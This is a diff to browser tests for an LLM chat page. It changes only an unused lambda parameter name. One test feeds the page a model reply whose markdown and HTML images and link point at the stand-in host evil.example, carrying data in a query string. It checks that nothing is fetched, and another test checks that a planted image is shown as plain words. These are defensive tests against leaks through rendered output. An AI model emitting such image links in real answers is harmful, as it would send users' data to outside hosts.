@@ -41,7 +41,7 @@ def ask(browser: Browser, address: str, question: str) -> tuple[Page, list[str]]
 
 
 def test_the_answer_grows_and_can_be_stopped(server: Scripted, generative: Make, browser: Browser) -> None:
-    server.script = lambda request: Reply(pieces=(GOOD, "và "), endless=True, pause=0.05)
+    server.script = lambda _: Reply(pieces=(GOOD, "và "), endless=True, pause=0.05)
     with Running(generative(llm_total_s=60.0), page=True) as address:
         page, foreign = ask(browser, address, POOR)
         page.wait_for_selector("#chat >> text=0,22%", timeout=20_000)
@@ -54,7 +54,7 @@ def test_the_answer_grows_and_can_be_stopped(server: Scripted, generative: Make,
 
 
 def test_a_leaking_reply_fetches_nothing(server: Scripted, generative: Make, browser: Browser) -> None:
-    server.script = lambda request: Reply(
+    server.script = lambda _: Reply(
         GOOD + "![x](http://evil.example/a.png?q=ho-ngheo) <img src=http://evil.example/b.png> [mở](http://evil.example) [1]."
     )
     with Running(generative(), page=True) as address:
@@ -66,7 +66,7 @@ def test_a_leaking_reply_fetches_nothing(server: Scripted, generative: Make, bro
 
 
 def test_a_planted_image_is_shown_as_its_words(planted: Assistant, server: Scripted, browser: Browser) -> None:
-    server.script = lambda request: Reply(status=503)
+    server.script = lambda _: Reply(status=503)
     with Running(planted, page=True) as address:
         page, foreign = ask(browser, address, "Xem số đàn ong của toàn xã tại đâu?")
         page.wait_for_selector("#chat a[href*='/documents/']", timeout=20_000)
